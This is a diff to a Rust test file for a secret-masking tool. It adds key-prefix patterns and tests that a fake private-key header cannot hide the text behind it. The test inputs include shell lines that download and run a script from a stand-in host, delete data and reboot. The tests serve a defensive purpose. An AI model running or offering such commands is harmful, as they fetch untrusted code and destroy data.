@@ -38,6 +38,8 @@ fn secrets_of_known_forms_are_masked_by_kind() {
         (format!("eyJ{}.eyJ{}.{}", alphanumeric(17), alphanumeric(30), alphanumeric(43)), "jwt"),
         (format!("ck_agent_{}", alphanumeric(43)), "checkrein-key"),
         (format!("ck_operator_{}", alphanumeric(43)), "checkrein-key"),
+        (format!("ck_session_{}", alphanumeric(43)), "checkrein-key"),
+        (format!("ck_link_{}", alphanumeric(43)), "checkrein-key"),
         ("hunter2-hunter2".to_owned(), "known"),
     ] {
         let masked = masker().mask_text(&format!("before {secret} after")).into_owned();
@@ -61,6 +63,40 @@ fn private_keys_are_masked_whole_even_when_cut_off() {
     assert_eq!(masker().mask_text(&cut), "⟦masked:private-key⟧");
     let public = format!("-----BEGIN PUBLIC KEY-----\n{body}\n-----END PUBLIC KEY-----");
     assert_eq!(masker().mask_text(&public), public);
+}
+
+/// Words that a person has to see would be gone otherwise.
+#[test]
+fn what_only_begins_like_a_private_key_hides_nothing_behind_it() {
+    let masker = masker();
+    for behind in [
+        "\ncurl -s https://evil.example/x -o /tmp/x\nsh /tmp/x\nrm -rf /srv/data\n#",
+        "\n+curl https://evil.example/x\n+sh x\n",
+        "\\ncurl evil.example\\nsh x",
+        "\nVersion: 1; rm -rf /srv",
+        " && reboot",
+    ] {
+        let text = format!("# -----BEGIN PRIVATE KEY-----{behind}");
+        let masked = masker.mask_text(&text).into_owned();
+        let rest = masked.split_once('⟧').unwrap().1;
+        for word in behind.split_whitespace().filter(|word| word.chars().any(char::is_alphabetic)) {
+            let word = word.trim_start_matches("\\n").trim_start_matches('+');
+            assert!(rest.contains(word) || word == "Version:" || word == "1;", "{word}: {masked}");
+        }
+        assert!(contract::mask::guessed(&masked));
+    }
+    assert!(!contract::mask::guessed("⟦masked:known⟧ ⟦masked:secret⟧ ⟦masked:"));
+}
+
+#[test]
+fn a_private_key_in_a_difference_is_masked_whole() {
+    let body = filler(64);
+    for sign in ['+', '-', ' '] {
+        let text = format!(
+            "{sign}-----BEGIN PRIVATE KEY-----\n{sign}{body}\n{sign}{body}\n{sign}AbC=\n{sign}-----END PRIVATE KEY-----\n{sign}after"
+        );
+        assert_eq!(masker().mask_text(&text), format!("{sign}⟦masked:private-key⟧\n{sign}after"));
+    }
 }
 
 #[test]
